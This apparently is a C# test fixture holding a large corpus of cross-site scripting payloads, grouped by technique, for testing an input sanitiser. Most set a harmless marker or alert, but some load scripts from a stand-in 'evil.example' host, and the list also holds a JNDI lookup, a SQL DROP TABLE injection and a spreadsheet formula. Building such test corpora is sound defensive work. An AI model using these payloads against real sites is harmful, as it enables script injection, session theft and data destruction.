namespace MissionGov.Journey.Tests;

/// <summary>What people have put into fields to have it run on somebody else's screen, by kind. Each sets window.__x or asks for a dialog when it works.</summary>
internal static class XssCorpus
{
    private const string Run = "window.__x=1";

    private static readonly string[] Tags =
    [
        $"<script>{Run}</script>", $"<SCRIPT>{Run}</SCRIPT>", $"<ScRiPt >{Run}</sCrIpT >", $"<script\n>{Run}</script\n>", $"<script/x>{Run}</script>", $"<script\t>{Run}</script>",
        "<script src=//evil.example/x.js></script>", "<script src=\"data:text/javascript,window.__x=1\"></script>", $"<scr<script>ipt>{Run}</scr</script>ipt>", $"<<script>{Run}//<</script>",
        $"<script type=module>{Run}</script>", "<script src=/live.js onload=window.__x=1></script>", "<script nomodule src=//evil.example></script>", $"</script><script>{Run}</script>",
        $"</title><script>{Run}</script>", $"</textarea><script>{Run}</script>", $"</style><script>{Run}</script>", $"</noscript><script>{Run}</script>", $"</template><script>{Run}</script>", $"</select><script>{Run}</script>",
        $"--><script>{Run}</script>", $"]]><script>{Run}</script>", $"<!--><script>{Run}</script>-->", $"<![CDATA[<script>{Run}</script>]]>", $"<?xml version=\"1.0\"?><script>{Run}</script>", $"%3Cscript%3E{Run}%3C/script%3E",
    ];

    private static readonly string[] Handlers =
    [
        $"<img src=x onerror={Run}>", $"<img src=x onerror=\"{Run}\">", "<img src=x onerror='alert(1)'>", "<img src=x onerror=alert`1`>", $"<img src=x:x onerror\n=\n{Run}>", $"<img/src=x/onerror={Run}>", $"<image src=x onerror={Run}>",
        $"<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={Run}>", $"<img srcset=x onerror={Run}>", $"<img src=\"x` `<script>{Run}</script>\"` `>", $"<IMG SRC=x ONERROR=&#119;indow.__x=1>", $"<img src=x onerror=\"&#x77;indow.__x=1\">",
        $"<body onload={Run}>", $"<body onpageshow={Run}>", $"<body onhashchange={Run}>", $"<input autofocus onfocus={Run}>", $"<select autofocus onfocus={Run}>", $"<textarea autofocus onfocus={Run}>", $"<button autofocus onfocus={Run}>x</button>",
        $"<details open ontoggle={Run}><summary>x</summary></details>", $"<video src=x onerror={Run}></video>", $"<video><source onerror={Run}></video>", $"<audio src=x onerror={Run}></audio>", $"<iframe onload={Run}></iframe>",
        $"<object data=x onerror={Run}></object>", $"<embed src=x onerror={Run}>", $"<link rel=stylesheet href=x onerror={Run}>", $"<style onload={Run}></style>", $"<marquee onstart={Run}>x</marquee>", $"<div contenteditable autofocus onfocus={Run} tabindex=1>x</div>",
        $"<p style=\"animation:x 1ms\" onanimationstart={Run}>x</p>", $"<p onpointerover={Run}>x</p>", $"<x onclick={Run} tabindex=1 id=x autofocus onfocus={Run}>x</x>", $"<form onsubmit={Run}><button>x</button></form>", $"<div popover onbeforetoggle={Run}>x</div>",
        $"<keygen autofocus onfocus={Run}>", $"<isindex onfocus={Run} autofocus>", $"<table background=x onerror={Run}>", $"<a href=# onmouseover={Run}>x</a>", $"<dialog open onclose={Run}>x</dialog>",
    ];

    private static readonly string[] OutOfAttributes =
    [
        $"\" onmouseover=\"{Run}", $"' onmouseover='{Run}", $"\" autofocus onfocus=\"{Run}", $"' autofocus onfocus='{Run}", $"\"><script>{Run}</script>", $"'><script>{Run}</script>", $"\"><img src=x onerror={Run}>", $"'><img src=x onerror={Run}>",
        $"\" style=\"animation:x 1ms\" onanimationstart=\"{Run}", $"x onerror={Run}", $"`onmouseover={Run}", $"\"/><svg onload={Run}>", $"\" accesskey=\"x\" onclick=\"{Run}", $"\" formaction=\"javascript:{Run}", $"\" srcdoc=\"<script>{Run}</script>", $"\\\"><script>{Run}</script>",
        $"&quot;><script>{Run}</script>", $"&#34; onfocus=&#34;{Run}", "\" href=\"javascript:alert(1)", "\" src=\"//evil.example/x.js", $"/*\" onload=\"*/{Run}//", $"\"\n onfocus\n=\n\"{Run}",
    ];

    private static readonly string[] Svg =
    [
        $"<svg onload={Run}>", $"<svg/onload={Run}>", $"<svg><script>{Run}</script></svg>", "<svg><script href=data:,window.__x=1 /></svg>", $"<svg><g onload={Run}></g></svg>", $"<svg><animate onbegin={Run} attributeName=x dur=1s>",
        $"<svg><set onbegin={Run} attributeName=x>", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='window.__x=1'/></svg>#x\"></svg>",
        $"<svg><foreignObject><body onload={Run}></foreignObject></svg>", $"<svg><title><script>{Run}</script></title></svg>", $"<svg><desc><![CDATA[</desc><script>{Run}</script>]]></svg>", $"</text></svg><script>{Run}</script>", $"<svg><style>@import '//evil.example';</style></svg>",
        $"<math><mtext><table><mglyph><style><img src=x onerror={Run}>", "<math href=\"javascript:alert(1)\">x</math>", $"<svg><p><style><a id=\"</style><img src=1 onerror={Run}>\">",
    ];

    private static readonly string[] Addresses =
    [
        $"javascript:{Run}", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)", "\u0001javascript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#106;avascript:alert(1)", "javascript://x%0aalert(1)",
        "data:text/html,<script>window.__x=1</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194PTE8L3NjcmlwdD4=", "vbscript:msgbox(1)", "//evil.example/x", "https://evil.example/\"onmouseover=\"alert(1)",
        "<a href=javascript:alert(1)>x</a>", "<a href=\"java&Tab;script:alert(1)\">x</a>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>parent.__x=1</script>\"></iframe>", "<object data=\"javascript:alert(1)\"></object>", "<embed src=\"javascript:alert(1)\">", "<form action=javascript:alert(1)><input type=submit></form>",
        "<button formaction=javascript:alert(1)>x</button>", "<isindex action=javascript:alert(1) type=image>", "<link rel=import href=//evil.example>", "<area href=javascript:alert(1)>",
    ];

    private static readonly string[] Styles =
    [
        "<style>*{background:url(//evil.example/x)}</style>", "<style>@import'//evil.example/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">x</div>", "<div style=\"width:expression(alert(1))\">x</div>", "};alert(1);//", "</style><img src=x onerror=alert(1)>", "<link rel=stylesheet href=//evil.example/x.css>",
    ];

    private static readonly string[] Templates =
    [
        "{{7*7}}", "{{constructor.constructor('window.__x=1')()}}", "${window.__x=1}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "@{ window.__x=1 }", "[[${7*7}]]", "{%raw%}x", "${jndi:ldap://evil.example/x}", "%s%n%x", "{0}", "`${alert(1)}`",
        "';window.__x=1;//", "\";window.__x=1;//", "\\';window.__x=1;//", "</script><script>window.__x=1//", "\u2028window.__x=1", "*/window.__x=1/*", "__proto__", "[object Object]",
        "[x](javascript:alert(1))", "![x](x\"onerror=\"alert(1))", "<javascript:alert(1)>", "[x]: javascript:alert(1)", "=HYPERLINK(\"https://evil.example\")", "Robert'); DROP TABLE missions;--",
    ];

    private static readonly string[] Letters =
    [
        "\u202egpj.exe", "\u2066x\u2069\u202e<script>", "\uff1cscript\uff1ewindow.__x=1\uff1c/script\uff1e", "\u2039script\u203awindow.__x=1", "Z" + string.Concat(Enumerable.Repeat("\u0300\u0327\u0489", 60)), "\u200b\u200c\u200d\ufeffx", "\u00adscr\u00adipt",
        "👩‍👩‍👧‍👦<b onclick=alert(1)>", "\\u003cscript\\u003ewindow.__x=1\\u003c/script\\u003e", "\\x3cscript\\x3ewindow.__x=1", "&lt;script&gt;window.__x=1&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<scrİpt>window.__x=1</scrİpt>", "\u2028<script>window.__x=1</script>\u2029",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Tags, .. Handlers, .. OutOfAttributes, .. Svg, .. Addresses, .. Styles, .. Templates, .. Letters];
}
